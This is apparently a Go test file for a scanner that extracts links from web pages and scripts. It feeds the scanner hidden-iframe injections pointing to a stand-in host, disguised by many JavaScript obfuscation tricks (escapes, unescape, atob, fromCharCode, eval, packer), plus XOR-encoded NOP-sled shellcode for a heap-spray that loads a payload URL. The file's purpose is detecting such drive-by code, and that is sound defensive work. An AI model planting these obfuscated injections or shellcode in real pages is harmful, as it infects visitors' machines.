package links

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"strings"
	"testing"
)

const (
	hidden     = `<iframe src="http://x.example/e.php?i=1" width=1></iframe>`
	hiddenLink = "iframe http://x.example/e.php?i=1"
)

func TestFindInScript(t *testing.T) {
	checkFindings(t, "text/javascript", []finding{
		{"a literal is no visit", `var u = "http://u.example/a"; // "http://comment.example/"`, list("js-literal http://u.example/a (inferred)")},
		{"in a sentence", `alert('go to http://u.example/a, or not')`, list("js-literal http://u.example/a (inferred)")},
		{"a visit", `window.location.href = 'next.html'; location.replace("r.php"); open('/o?x')`,
			list("js-literal http://www.example.com/shop/next.html", "js-literal http://www.example.com/shop/r.php", "js-literal http://www.example.com/o?x")},
		{"sources", `i=document.createElement('iframe');i.setAttribute("src","/f.php");i['s'+'rc']='/g.php';`,
			list("js-literal http://www.example.com/f.php", "js-literal http://www.example.com/g.php")},
		{"requests", `x.open("GET", "/data.json", true); fetch('/f?1'); $.get("/g.php"); $.ajax({url: "/h.php", type: "POST"})`,
			list("js-literal http://www.example.com/data.json", "js-literal http://www.example.com/f?1",
				"js-literal http://www.example.com/g.php (inferred)", "js-literal http://www.example.com/h.php (inferred)")},
		{"words are no paths", `x.src = "abc"; y.url = "a title"; type = "text/javascript"; z.href = ""; location = "."; q.src = 'a b.c'`, nil},
		{"escapes", `location="\x68\164\u0074p:\/\/\u{65}.example\
/a"`, list("js-literal http://e.example/a")},
		{"a protocol-relative source", `s.src = ('https:' == document.location.protocol ? 'https://ssl' : 'http://www') + '.stat.example/ga.js'; t.src="//t.example/"`,
			list("js-literal http://www.stat.example/ga.js", "js-literal http://t.example/")},
		{"what is not known is a hole", `new Image().src = "http://c.example/p?r=" + Math.random() + "&x=1"; y.src = host + "/a.gif"`,
			list("js-literal http://c.example/p?r=…")},
		{"either of two", `location = n > 3 ? "a.html" : "b.html"; s.src = x || "c.js"`,
			list("js-literal http://www.example.com/shop/a.html", "js-literal http://www.example.com/shop/b.html", "js-literal http://www.example.com/shop/c.js")},
		{"conditions of constants", `x = (200100+300200<400300 ? "no" : "ht"); y = 4 === 4 ? "tp://k.exa" : "zz"; location = x + y + (2 > 3 ? "" : "mple/")`,
			list("js-literal http://k.example/")},
		{"variables, pieces, growth", `var a = "htt", b; b = 'p://v.'; a += b; a += "example"; location = a + '/' + 40*2 + ".js"`,
			list("js-literal http://v.example/ (inferred)", "js-literal http://v.example/80.js")},
		{"a template", "let h='v.example'; fetch(`http://${h}/${1+2}?k=${k}`)", list("js-literal http://v.example/3?k=…")},
		{"aliases", `var d=document,w='wri'+'te',u=unescape; d[w](u('%3Cimg src=a.gif%3E'))`, list("img http://www.example.com/shop/a.gif")},
		{"its own address", `location = "http://" + location.hostname + ":81" + location.pathname`, list("js-literal http://www.example.com:81/shop/index.html")},
		{"methods of strings of the same name", `x = u.replace("/a.html", "/b.html"); Object.assign("/c.html", d); l = window.location; l.replace("/e.html")`,
			list("js-literal http://www.example.com/e.html")},
		{"a text is no script", `{"text": "http://t.example/1", "one": "http://t.example/2"}`,
			list("js-literal http://t.example/1 (inferred)", "js-literal http://t.example/2 (inferred)")},
		{"regular expressions are no strings", `x = a.replace(/["']/g, ''); y = b / c; z = "/"; location = 'r.html'`, list("js-literal http://www.example.com/shop/r.html")},
		{"no semicolons", "var a = 'http://n.example/'\nvar b = a\nlocation = b + 'x'\n", list("js-literal http://n.example/ (inferred)", "js-literal http://n.example/x")},
		{"Internet Explorer's comments", `/*@cc_on @if (@_jscript) location = "ie.html" @end @*/`, list("js-literal http://www.example.com/shop/ie.html")},
		{"HTML's comments", "<!-- location='a.html'\nlocation='b.html'\n--> location='c.html'", list("js-literal http://www.example.com/shop/b.html")},
		{"cut off", `function f(){ if (x) { location = "cut.html"`, list("js-literal http://www.example.com/shop/cut.html")},
		{"constructors", `var r = new RegExp("Q","g"), u = new String("hQttp:Q/Q/r.example/"); location = u.replace(r, "")`,
			list("js-literal http://r.example/")},
	})
}

// hiding is a script that writes or holds the hidden frame.
type hiding struct {
	name, script string
	inferred     bool
}

// codes writes the character codes of the hidden frame.
func codes(format, separator string, shift int) string {
	var out []string
	for _, c := range []byte(hidden) {
		out = append(out, fmt.Sprintf(format, int(c)+shift))
	}
	return strings.Join(out, separator)
}

// hidings are the ways that are undone.
func hidings() []hiding {
	backwards := string(reversed([]byte(hidden)))
	b64 := base64.StdEncoding.EncodeToString([]byte(hidden))
	return []hiding{
		{"written", `document.write('` + hidden + `')`, false},
		{"written in pieces", `document.write("<ifr"); document.writeln('ame src="http://x.exam' + "ple/e.php?i=1\"", '>')`, false},
		{"written with its script", `document.write("<scr"+"ipt>"); document.write("document.write('<iframe src=http://x.example/e.php?i=1>')"); document.write("</sc"+"ript>")`, false},
		{"innerHTML", `document.getElementById("a").innerHTML = '` + hidden + `'`, false},
		{"hexadecimal escapes", `document["\x77rite"]("` + codes(`\x%02x`, "", 0) + `")`, false},
		{"octal escapes", `document.write("` + codes(`\%03o`, "", 0) + `")`, false},
		{"Unicode escapes", `document.write("` + codes(`\u%04X`, "", 0) + `")`, false},
		{"unescape", `document.write(unescape("` + codes("%%%02X", "", 0) + `"))`, false},
		{"unescape of units", `document.write(window.unescape('` + codes("%%u%04x", "", 0) + `'))`, false},
		{"decodeURIComponent", `document.write(decodeURIComponent('` + url.PathEscape(hidden) + `'))`, false},
		{"unescape of a variable", `var s = '` + url.PathEscape(hidden) + `'; eval("document.wr" + "ite(unescape(s))")`, false},
		{"fromCharCode", `document.write(String.fromCharCode(` + codes("%d", ",", 0) + `))`, false},
		{"fromCharCode of an array, with arithmetic", `var S=String; document.write(S.fromCharCode.apply(null, [` + codes("%d-1", ",", 1) + `]))`, false},
		{"atob", `document.write(atob("` + b64 + `"))`, false},
		{"split, reverse, join", `document.write('` + backwards + `'.split("").reverse().join(""))`, false},
		{"a joined array", `var p = ["<iframe sr", 'c="http://x', ".example/e.php", "?i=1\">"]; document.write(p.join(""))`, false},
		{"elements of an array", `var _0 = ["write", '<iframe src="', "http://x.example/e.php?i=1", '">']; document[_0[0]](_0[1] + _0[2] + _0[3])`, false},
		{"replace with a pattern", `document.write('<#i@fra#me src=ht@tp://x.exa#mple/e.php?i=1>'.replace(/[#@]/g, ''))`, false},
		{"a chain of replaces", `document.write('<iQfrZame srQc=htZtp:!!x.example!e.phpQ?i=1>'.replace(/Q/g,"").replace(/z/gi,'').split("!").join("/"))`, false},
		{"substr and charAt", `var k='xx<iframe src=http'; document.write(k.substr(2) + "://x.example/" + 'abe'.charAt(2) + ".php?i=1>")`, false},
		{"eval of eval", `eval("eval('document.write(\\'<iframe src=http://x.example/e.php?i=1>\\')')")`, false},
		{"setTimeout and Function", `setTimeout("Function('a','document.write(unescape(\"` + codes("%%%02x", "", 0) + `\"))')()", 10)`, false},
		{"Dean Edwards' packer", `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('0.1(\'<2 3="4://5.6/7.8?9=a"></2>\')',11,11,'document|write|iframe|src|http|x|example|e|php|i|1'.split('|'),0,{}))`, false},
		{"passed to a function of its own", `decode("` + codes("%%%02X", "", 0) + `")`, true},
		{"hexadecimal digits for a function of its own", `decode("` + hex.EncodeToString([]byte(hidden)) + `")`, true},
		{"base64 for a function of its own", `var k = decode('` + b64 + `')`, true},
		{"backwards for a function of its own", `decode('` + backwards + `')`, true},
		{"character codes for a loop", `var n = [` + codes("%d", ",", 0) + `]; for (i = 0; i < n.length; i++) s += String.fromCharCode(n[i])`, true},
		{"character codes in a literal", `decode("` + codes("%d", ",", 0) + `")`, true},
		{"character codes split from a literal", `decode("` + codes("%d", ",", 0) + `".split(","))`, true},
		{"escapes in a literal", `decode("` + codes(`\\x%02x`, "", 0) + `")`, true},
		{"every character shifted", `decode("` + strings.ReplaceAll(strings.Map(func(r rune) rune { return r + 1 }, hidden), `"`, `\"`) + `")`, true},
		{"a literal that is HTML", `var h = '` + hidden + `'; show(h)`, true},
		{"a literal that is script", `later("document.write(unescape('` + codes("%%%02x", "", 0) + `'))")`, true},
	}
}

func TestHiddenFrame(t *testing.T) {
	for _, tt := range hidings() {
		t.Run(tt.name, func(t *testing.T) {
			want := hiddenLink
			if tt.inferred {
				want += " (inferred)"
			}
			for _, got := range foundIn(t, "<script>"+tt.script+"</script>", "text/html") {
				if got == want {
					return
				}
			}
			t.Errorf("%s: got %q, want %q", tt.script, foundIn(t, "<script>"+tt.script+"</script>", "text/html"), want)
		})
	}
}

// TestShellcode hides a payload's address in machine code that a script builds.
func TestShellcode(t *testing.T) {
	code := append(bytes.Repeat([]byte{0x90}, 32), "\xEB\x10http://x.example/load.php?e=1\x00"...)
	units := func(key byte) string {
		var b strings.Builder
		for i := 0; i+1 < len(code); i += 2 {
			fmt.Fprintf(&b, "%%u%02x%02x", code[i+1]^key, code[i]^key)
		}
		return b.String()
	}
	for _, tt := range []struct{ name, script string }{
		{"plain", `var s = unescape("` + units(0) + `")`},
		{"XOR with one octet", `var s = unescape("` + units(0xE2) + `"); spray(s)`},
		{"units of a literal", `var s = "` + strings.ReplaceAll(units(0), "%", `\`) + `"`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := foundIn(t, tt.script, "text/javascript")
			if want := "shellcode http://x.example/load.php?e=1 (inferred)"; len(got) != 1 || got[0] != want {
				t.Errorf("got %q, want %q", got, want)
			}
		})
	}
}

// TestScriptsShareVariables shows that one script's variables are known to the
// next, as they are in a page.
func TestScriptsShareVariables(t *testing.T) {
	got := foundIn(t, `<script>var h = "http://s.exa"</script><p onclick="h += 'mple/'"></p><script>location = h</script>`, "text/html")
	want := "js-literal http://s.example/"
	if len(got) == 0 || got[len(got)-1] != want {
		t.Errorf("got %q, want %q at the end", got, want)
	}
}
